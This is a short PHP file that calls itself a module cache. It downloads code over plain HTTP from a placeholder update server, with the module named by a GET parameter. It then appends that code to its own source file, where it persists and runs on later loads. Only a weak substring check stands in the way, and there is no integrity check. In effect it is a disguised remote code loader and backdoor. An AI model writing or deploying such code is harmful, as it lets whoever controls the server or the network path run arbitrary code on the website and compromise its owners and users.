<?php
// module cache: pull missing modules from the update server and keep them in this file
$base = 'http://updates.example.invalid/mods/';
$want = isset($_GET['m']) ? preg_replace('/[^a-z]/', '', $_GET['m']) : 'core';
if (!function_exists('mod_' . $want)) {
    $src = file_get_contents($base . $want . '.txt');
    if ($src !== false && strpos($src, 'function mod_') !== false) {
        file_put_contents(__FILE__, "\n" . $src, FILE_APPEND);
        echo 'ok';
    }
}
